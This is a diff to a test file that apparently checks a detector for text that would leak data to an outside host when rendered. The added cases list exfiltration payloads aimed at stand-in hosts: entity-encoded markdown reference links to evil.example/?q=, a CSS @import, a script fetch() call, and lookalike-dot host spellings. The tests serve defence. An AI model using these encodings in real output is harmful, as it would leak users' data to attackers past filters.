@@ -8,7 +8,8 @@ from extproc.core.surroundings import Surroundings
 
 PIECES = st.sampled_from(
     ["http", "https", ":", "/", "//", "\\", "www.", "evil.com", "?", "#", "=", "[", "]", "](", "(", ")", "<", "a", "img ",
-     "src=", '"', "'", ">", " ", "\n", "\t", "x", "mailto:", "é", "\u00a0", "word ", "data:", ".", "<!", "&"],
+     "src=", '"', "'", ">", " ", "\n", "\t", "x", "mailto:", "é", "\u00a0", "word ", "data:", ".", "<!", "&", "&#47;", "&sol;", "<\\",
+     "style", "<script>", "</", "https:", "\u3002"],
 )  # fmt: skip
 
 
@@ -53,6 +54,16 @@ def carries(text):
         "<!-- ",
         "<?xml ",
         "if a <b then ",
+        "https:evil。example?q=",
+        "evil\uff0eexample/",
+        "![x][r]\n\n[r]: https&#58;&#47;&#47;evil.example&#47;?q=",
+        "[r]: &sol;&sol;evil.example&sol;?q=",
+        r"[r]: <\//evil.example/?q= ",
+        "[r]: <&#47;/evil.example/?q= ",
+        r"[r]: </\/evil.example/?q=\> ",
+        "<style>@import '//evil.example/?q= ",
+        '<SCRIPT type="module">fetch("//evil.example/?q= " + "',
+        "<script>a < b; ",
     ],
 )
 def test_what_would_be_sent_on(before):
@@ -83,6 +94,11 @@ def test_what_would_be_sent_on(before):
         "f(x) = ",
         "version 1.2.3/",
         "Email:",
+        "<styles>p ",
+        "<style>p {color: red}</style> ",
+        "<script>a</b></script>",
+        "Tom & Ann, AT&T: ",
+        "&nbsp; ",
     ],
 )
 def test_what_stays_with_the_reader(before):
